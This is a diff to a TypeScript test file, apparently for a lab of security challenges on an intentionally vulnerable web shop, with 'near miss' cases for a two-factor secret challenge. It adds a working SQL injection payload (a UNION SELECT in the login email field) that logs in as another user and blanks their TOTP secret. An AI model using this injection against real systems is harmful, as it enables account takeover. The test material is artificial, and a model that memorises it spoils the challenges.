@@ -1,6 +1,24 @@
-import type { NearMiss } from '#lab'
-import { logInAs } from './injection.ts'
-import { codeFor } from './totp.ts'
+import type { NearMiss, Tools } from '#lab'
+
+/** All columns of Users in the order of the table, some of them replaced. */
+function columns(replaced: Record<string, string>): string {
+  const names =
+    'id username email password role deluxeToken lastLoginIp profileImage totpSecret isActive createdAt updatedAt deletedAt'
+  return names
+    .split(' ')
+    .map((name) => replaced[name] ?? name)
+    .join(',')
+}
+
+/** Logs in with a row made of an account's own and what is replaced in it; returns the token. */
+async function logInAs(tools: Tools, who: string, replaced: Record<string, string>): Promise<string> {
+  const { http, expect, settings } = tools
+  const address = `${who}@${settings.domain}`
+  const email = `' UNION SELECT ${columns(replaced)} FROM Users WHERE email='${address}'--`
+  const answer = await http.post('/rest/user/login', { email, password: 'a' })
+  expect(answer.status === 200, `the login answered with ${answer.status}`)
+  return answer.json<{ authentication: { token: string } }>().authentication.token
+}
 
 const challenge = 'twoFactorAuthUnsafeSecretStorageChallenge'
 const PASSWORD = 'EinBelegtesBrotMitSchinkenSCHINKEN!'
@@ -16,11 +34,11 @@ export const nearMisses: NearMiss[] = [
   {
     challenge,
     name: 'a code that has nothing to do with his secret',
-    run: async ({ http, expect, settings }) => {
+    run: async ({ http, authenticator, expect, settings }) => {
       const email = `wurstbrot@${settings.domain}`
       const login = await http.post('/rest/user/login', { email, password: PASSWORD })
       const { tmpToken } = login.json<{ data: { tmpToken: string } }>().data
-      const totpToken = await codeFor('GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ')
+      const totpToken = await authenticator('GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ')
       const answer = await http.post('/rest/2fa/verify', { tmpToken, totpToken })
       expect(answer.status === 401, `the code was answered with ${answer.status}`)
     },
@@ -29,20 +47,20 @@ export const nearMisses: NearMiss[] = [
     challenge,
     name: 'his second factor is switched off, and another one set up in its place',
     run: async (tools) => {
-      const { http, expect, settings } = tools
+      const { http, authenticator, expect, settings } = tools
       const token = await logInAs(tools, 'wurstbrot', { totpSecret: "''" })
       const off = await http.post('/rest/2fa/disable', { password: PASSWORD }, { token })
       expect(off.status === 200, `switching it off was answered with ${off.status}`)
       const status = await http.get('/rest/2fa/status', { token })
       const { secret, setupToken } = status.json<{ secret: string; setupToken: string }>()
-      const setUp = { password: PASSWORD, setupToken, initialToken: await codeFor(secret) }
+      const setUp = { password: PASSWORD, setupToken, initialToken: await authenticator(secret) }
       await http.post('/rest/2fa/setup', setUp, { token })
       const login = await http.post('/rest/user/login', {
         email: `wurstbrot@${settings.domain}`,
         password: PASSWORD,
       })
       const { tmpToken } = login.json<{ data: { tmpToken: string } }>().data
-      const totpToken = await codeFor(secret)
+      const totpToken = await authenticator(secret)
       const answer = await http.post('/rest/2fa/verify', { tmpToken, totpToken })
       expect(answer.status === 200, `the code was answered with ${answer.status}`)
     },
